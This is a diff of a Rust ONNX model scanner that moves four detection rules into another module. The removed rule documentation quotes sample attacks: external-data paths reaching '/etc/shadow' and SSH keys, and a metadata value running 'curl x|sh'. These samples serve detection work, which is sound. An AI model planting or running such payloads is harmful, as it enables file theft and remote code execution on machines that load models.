@@ -9,100 +9,15 @@ use super::GraphLimits;
 use crate::finding::{abbreviate, Location};
 use crate::formats::protobuf::{settle, Reader, Span, Stop, Walk};
 use crate::formats::text::{location_problem, suspicious_text, A_URL};
-use crate::rule::Rule;
+
+pub use crate::formats::graphs::rules::{
+    ONNX_CUSTOM_OP_DOMAIN, ONNX_EXTERNAL_DATA_PATH, ONNX_MALFORMED, ONNX_SUSPICIOUS_METADATA,
+};
 use crate::scan::ScanCtx;
 use crate::severity::Severity;
 use crate::source::{ByteSource, ReadError};
 use serde_json::json;
 use std::collections::{BTreeMap, BTreeSet};
-
-/// The model is not valid protobuf, or not a valid `ModelProto`.
-pub static ONNX_MALFORMED: Rule = Rule {
-    id: "onnx-malformed",
-    severity: Severity::Medium,
-    summary: "The ONNX model is not a well-formed ModelProto, so part of it was not analysed.",
-    docs: r#"
-## Why it matters
-A model that does not parse cannot be vouched for: runtimes with lenient parsers may
-still load a prefix of it, and a parser differential between the scanner and the
-runtime is a classic way to hide content.
-
-## What to do
-Re-export the model with the official `onnx` package and check it with
-`onnx.checker.check_model`.
-"#,
-};
-
-/// An initializer's external data location escapes the model's folder.
-pub static ONNX_EXTERNAL_DATA_PATH: Rule = Rule {
-    id: "onnx-external-data-path",
-    severity: Severity::High,
-    summary: "A tensor's external_data location is absolute or climbs out of the model's folder.",
-    docs: r#"
-## Why it matters
-ONNX tensors may keep their bytes in a separate file named by the `location` entry of
-`external_data`, resolved relative to the model's folder. A location such as
-`../../etc/passwd` or `/home/user/.ssh/id_rsa` makes the runtime read an arbitrary
-file of the machine that loads the model and treat it as weights (CVE-2022-25882,
-CVE-2024-5187 for the matching write path in `onnx.hub`). Outputs computed from
-those weights can leak the file's content.
-
-## Example
-An initializer with `data_location: EXTERNAL` and
-`external_data { key: "location" value: "../../../../etc/shadow" }`.
-
-## What to do
-Do not load the model. Legitimate models name plain files next to the model
-(`model.onnx.data`, `weights.bin`).
-
-## References
-- ONNX external data: https://onnx.ai/onnx/repo-docs/ExternalData.html
-- CVE-2022-25882 (directory traversal in external data)
-"#,
-};
-
-/// A node uses an operator from a non-standard domain.
-pub static ONNX_CUSTOM_OP_DOMAIN: Rule = Rule {
-    id: "onnx-custom-op-domain",
-    severity: Severity::Medium,
-    summary: "The model uses operators outside the standard ONNX domains; running it needs custom operator code.",
-    docs: r#"
-## Why it matters
-Standard runtimes implement the `ai.onnx` (empty domain), `ai.onnx.ml` and training
-domains. Any other domain is a custom operator: the runtime needs a native library
-registered for it (`SessionOptions.register_custom_ops_library`), and that library
-runs with the full rights of the process. A model that asks for custom ops asks you
-to install and trust code from its author. `com.microsoft` contrib operators ship
-with ONNX Runtime itself and are reported at low severity.
-
-## Example
-A node with `domain: "com.example.ops"` and `op_type: "Decrypt"`.
-
-## What to do
-Find out which library implements the domain and where it comes from; only load
-the model with libraries you already trust.
-"#,
-};
-
-/// Metadata or doc strings hold code, pickles or terminal escapes.
-pub static ONNX_SUSPICIOUS_METADATA: Rule = Rule {
-    id: "onnx-suspicious-metadata",
-    severity: Severity::Medium,
-    summary: "Model metadata holds code, a serialized pickle or terminal escape sequences.",
-    docs: r#"
-## Why it matters
-`metadata_props` and `doc_string` are free text that tools display and that
-pipelines sometimes interpret (a preprocessing snippet, a pickled tokenizer). Code,
-pickles or shell commands there are a payload waiting for a careless consumer;
-ANSI escape sequences rewrite what a terminal shows.
-
-## Example
-`metadata_props { key: "preprocess" value: "__import__('os').system('curl x|sh')" }`
-
-## What to do
-Read the value. Never `eval`, `exec` or unpickle model metadata.
-"#,
-};
 
 /// Op domains every standard runtime implements.
 const STANDARD_DOMAINS: &[&str] = &[
@@ -590,3 +505,6 @@ impl Scanner<'_, '_, '_> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests;
